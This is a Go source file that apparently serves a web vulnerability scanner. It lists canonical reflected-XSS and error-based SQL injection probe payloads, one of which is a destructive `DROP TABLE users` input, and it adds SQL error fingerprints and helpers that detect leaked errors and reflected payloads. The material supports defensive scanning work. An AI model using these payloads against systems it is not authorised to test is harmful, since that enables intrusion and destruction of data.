// Package corpus holds the fixed, small payload catalogues the active
// detectors fuzz with, plus the SQL error fingerprint set used to
// recognize a database error leaking into a response body. Unlike a
// false-positive-testing corpus, these lists are intentionally short and
// canonical: the spec's detector catalogue is a fixed set of probes, not
// an exhaustive bypass-testing suite.
package corpus

import "strings"

// XSSPayloads is the seven canonical reflected-XSS payloads tried, in
// order, against each candidate form input. URL parameters are probed
// with CanonicalXSSPayload only.
var XSSPayloads = []string{
	`<script>alert("XSS")</script>`,
	`" onmouseover="alert('XSS')`,
	`<img src=x onerror=alert('XSS')>`,
	`javascript:alert('XSS')`,
	`<svg onload=alert('XSS')>`,
	`<img src="javascript:alert('XSS')">`,
	`<iframe src="javascript:alert('XSS')"></iframe>`,
}

// CanonicalXSSPayload is the single payload D2 (reflected URL XSS) uses.
const CanonicalXSSPayload = `<script>alert("XSS")</script>`

// SQLiPayloads is the twelve error-based SQL injection payloads tried, in
// order, against each candidate input.
var SQLiPayloads = []string{
	`' OR '1'='1`,
	`' OR 1=1--`,
	`' OR 1=1#`,
	`" OR "1"="1`,
	`' OR '1'='1' --`,
	`admin'--`,
	`' UNION SELECT NULL--`,
	`' UNION SELECT NULL,NULL--`,
	`' UNION SELECT NULL,NULL,NULL--`,
	`1' AND '1'='1`,
	`') OR ('1'='1`,
	`'; DROP TABLE users--`,
}

// SQLErrorFingerprints is the fixed set of substrings that, when present
// case-insensitively in a response body, are treated as evidence of a
// database error leaking to the client.
var SQLErrorFingerprints = []string{
	"mysql_fetch_array",
	"ORA-",
	"Microsoft OLE DB Provider",
	"PostgreSQL query failed",
	"Warning: mysql_",
	"SQL syntax",
	"mysql_error",
	"valid MySQL result",
	"MySqlClient",
	"syntax error",
}

// MatchesSQLError reports whether body contains any fingerprint in
// SQLErrorFingerprints, case-insensitively.
func MatchesSQLError(body string) (string, bool) {
	lower := strings.ToLower(body)
	for _, fp := range SQLErrorFingerprints {
		if strings.Contains(lower, strings.ToLower(fp)) {
			return fp, true
		}
	}
	return "", false
}

// ReflectsPayload reports whether payload appears in body, case-insensitively.
func ReflectsPayload(body, payload string) bool {
	return strings.Contains(strings.ToLower(body), strings.ToLower(payload))
}
